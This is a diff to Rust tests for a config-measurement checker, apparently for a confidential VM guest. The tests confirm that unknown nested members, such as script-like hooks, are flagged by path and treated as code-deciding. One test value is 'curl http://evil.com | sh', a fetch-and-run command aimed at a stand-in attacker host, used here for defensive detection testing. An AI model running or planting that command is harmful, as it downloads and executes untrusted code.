@@ -197,7 +197,7 @@ fn a_field_that_is_not_known_and_may_be_a_script_decides_code() {
         members[field] = value.clone();
         let file = of_members(members).unwrap().unwrap();
         assert_eq!(paths(&file.unmeasured), [field], "{value}");
-        assert_eq!(field_problem(field, &value, None), Some(FieldProblem::Unknown));
+        assert_eq!(unknown(field, &value), [field]);
     }
     for (field, value) in [
         ("tomorrow", json!("x")),
@@ -208,17 +208,84 @@ fn a_field_that_is_not_known_and_may_be_a_script_decides_code() {
         members[field] = value.clone();
         let file = of_members(members).unwrap().unwrap();
         assert_eq!(file.deciding_count(), 0, "{field}: {value}");
-        assert_eq!(field_problem(field, &value, None), Some(FieldProblem::Unknown));
+        assert_eq!(unknown(field, &value), [field]);
     }
     // The guest takes its default.
-    assert_eq!(field_problem("a_hook", &json!(null), None), None);
+    assert!(unknown("a_hook", &json!(null)).is_empty());
+}
+
+/// The paths of a field, or of its members, that no guest is known to read.
+fn unknown(field: &str, value: &serde_json::Value) -> Vec<String> {
+    let found = unknown_fields(field, value).into_iter();
+    found.map(|unknown| unknown.path).collect()
+}
+
+/// A guest of tomorrow may read more members of a field, as it may read more fields.
+#[test]
+fn a_member_that_is_not_known_is_as_a_field_that_is_not_known() {
+    for (field, value, path, decides) in [
+        (
+            "requirements",
+            json!({ "post_boot": "curl http://evil.com | sh" }),
+            "requirements.post_boot",
+            true,
+        ),
+        ("requirements", json!({ "cpus": 4 }), "requirements.cpus", false),
+        (
+            "requirements",
+            json!({ "gpu_policy": { "hook": "a" } }),
+            "requirements.gpu_policy.hook",
+            true,
+        ),
+        (
+            "docker_config",
+            json!({ "registry": null, "x": "#!/bin/sh" }),
+            "docker_config.x",
+            true,
+        ),
+        (
+            "port_policy",
+            json!({ "ports": [{ "port": 80, "pp": true, "exec": "a" }] }),
+            "port_policy.ports[0].exec",
+            true,
+        ),
+        (
+            "port_policy",
+            json!({ "tomorrow": 1 }),
+            "port_policy.tomorrow",
+            false,
+        ),
+        (
+            "verity_volumes",
+            json!([{ "mode": "rw" }]),
+            "verity_volumes[0].mode",
+            false,
+        ),
+    ] {
+        assert_eq!(unknown(field, &value), [path]);
+        let mut members = json!({ "runner": "docker-compose" });
+        members[field] = value;
+        let file = of_members(members).unwrap().unwrap();
+        assert_eq!(paths(&file.unmeasured).contains(&path), decides, "{path}");
+    }
 }
 
 #[test]
 fn fields_that_guests_read_are_quiet_as_long_as_they_hold_what_guests_read() {
     let compose = json!("docker-compose");
     for (field, value) in [
-        ("docker_config", json!({ "x": "y" })),
+        (
+            "docker_config",
+            json!({ "password": "", "registry": null, "username": "" }),
+        ),
+        (
+            "port_policy",
+            json!({ "restrict_mode": true, "ports": [{ "port": 80, "pp": false }] }),
+        ),
+        (
+            "requirements",
+            json!({ "platforms": ["tdx"], "gpu_policy": { "rego": "package policy\n" }, "health_check": true, "x": null }),
+        ),
         ("default_gateway_domain", json!("gateway.example")),
         ("salt", json!("x")),
         ("bash_script", json!(null)),
@@ -234,6 +301,7 @@ fn fields_that_guests_read_are_quiet_as_long_as_they_hold_what_guests_read() {
             None,
             "{field}: {value}"
         );
+        assert!(unknown(field, &value).is_empty(), "{field}: {value}");
     }
     for (field, value) in [
         ("snapshotter", json!("stargz\n")),
@@ -241,6 +309,7 @@ fn fields_that_guests_read_are_quiet_as_long_as_they_hold_what_guests_read() {
         ("kms_enabled", json!("true")),
         ("features", json!("kms")),
         ("name", json!(1)),
+        ("requirements", json!("a")),
     ] {
         assert_eq!(
             field_problem(field, &value, Some(&compose)),
